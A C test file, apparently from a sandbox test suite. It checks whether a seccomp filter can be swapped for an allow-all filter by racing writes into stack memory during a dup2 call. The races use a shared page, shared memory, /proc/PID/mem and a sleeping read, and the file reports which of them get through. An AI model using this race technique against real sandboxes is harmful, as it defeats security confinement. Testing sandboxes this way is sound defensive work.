/* The memory below the stack of a task that gives an end a new number is changed by others all the time: by a process that shares it,
 * one that shares the memory, one that has /proc/PID/mem open, and a sibling that sleeps in read(2) into it. Whatever looks
 * there like a filter is exchanged for one that lets everything run.
 */
#include "arming.h"
#include <sys/stat.h>

enum { SIZE = 1 << 15, BELOW = 4096 };

static struct {
    volatile int over, begun;
    volatile pid_t worker;
} *shared;

static char *room, *top;
static int feed[2];

static int forge_for_ever(void *unused)
{
    (void)unused;
    end_with_maker();
    shared->begun = 1;
    while (!shared->over)
        forge(top - BELOW, BELOW);
    syscall(SYS_exit, 0);
    return 0;
}

static int forge_through_file(void *unused)
{
    static char copy[BELOW];
    char path[40];
    (void)unused;
    end_with_maker();
    snprintf(path, sizeof path, "/proc/%d/mem", shared->worker);
    int memory = open(path, O_RDWR);
    shared->begun = 1;
    while (!shared->over)
        if (pread(memory, copy, BELOW, (off_t)(top - BELOW)) == BELOW && forge(copy, BELOW))
            pwrite(memory, copy, BELOW, (off_t)(top - BELOW));
    _exit(0);
}

/* Asleep with the address; what comes are instructions that let everything run, for the place at that distance. */
static int read_for_ever(void *unused)
{
    (void)unused;
    end_with_maker();
    shared->begun = 1;
    for (unsigned i = 0; !shared->over; i++)
        read(feed[0], top - 8 * (17 + i % 112), 8);
    syscall(SYS_exit, 0);
    return 0;
}

static void feed_for_ever(void)
{
    static const struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    end_with_maker();
    while (!shared->over) {
        write(feed[1], &allow, sizeof allow);
        usleep(50);
    }
    _exit(0);
}

static int work(void *number)
{
    struct call call = {SYS_dup2, {*(int *)number, 40, 0, 0}, 40};
    for (double until = now() + 20; !shared->begun && now() < until;)
        ;
    for (int i = 0; i < 4; i++) {
        call.args[1] = call.to = 40 + i;
        then_write(&call);
    }
    shared->over = 1;
    return 0;
}

static const struct {
    const char *name;
    int map, clone_flags;
    int (*forger)(void *);
} others[] = {
    {"a shared page", MAP_SHARED, 0, forge_for_ever}, {"shared memory", MAP_PRIVATE, CLONE_VM, forge_for_ever},
    {"/proc/PID/mem", MAP_PRIVATE, 0, forge_through_file}, {"a sleeping reader", MAP_PRIVATE, CLONE_VM, read_for_ever},
};

static int attempt(const void *with)
{
    static char stack[65536];
    int i = *(const int *)with, p[2], fifo = 0;
    char path[] = "/tmp/attack-XXXXXX";
    room = mmap(NULL, SIZE, PROT_READ | PROT_WRITE, others[i].map | MAP_ANONYMOUS, -1, 0);
    top = room + SIZE - 64;
    shared->over = shared->begun = shared->worker = 0;
    if (others[i].forger == read_for_ever) {
        close(mkstemp(path)), unlink(path), mkfifo(path, 0600);
        feed[0] = feed[1] = fifo = open(path, O_RDWR);
        unlink(path);
        if (fork() == 0)
            feed_for_ever();
    }
    if (pipe2(p, O_NONBLOCK))
        return 0;
    write(p[1], "A", 1);
    pid_t worker = fork();
    if (!worker) {
        end_with_maker();
        shared->worker = getpid();
        if (others[i].clone_flags)
            clone(others[i].forger, stack + sizeof stack, others[i].clone_flags | SIGCHLD, NULL);
        else if (fork() == 0)
            _exit(others[i].forger(NULL));
        clone(work, top, CLONE_VM | CLONE_VFORK | SIGCHLD, &p[1]);
        shared->over = 1;
        while (fifo && waitpid(-1, NULL, __WALL | WNOHANG) >= 0) {
            write(fifo, "12345678", 8);
            usleep(200);
        }
        _exit(0);
    }
    waitpid(worker, NULL, 0);
    return foreign(p[0], 'A');
}

int main(void)
{
    shared = mmap(NULL, sizeof *shared, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    for (int i = 0; i < COUNT(others); i++) {
        int through = 0;
        for (double until = tries_until(0.3); now() < until && !through;)
            through = in_child(attempt, &i);
        note(others[i].name, "a pipe", 0, through == 1);
    }
    finish();
}
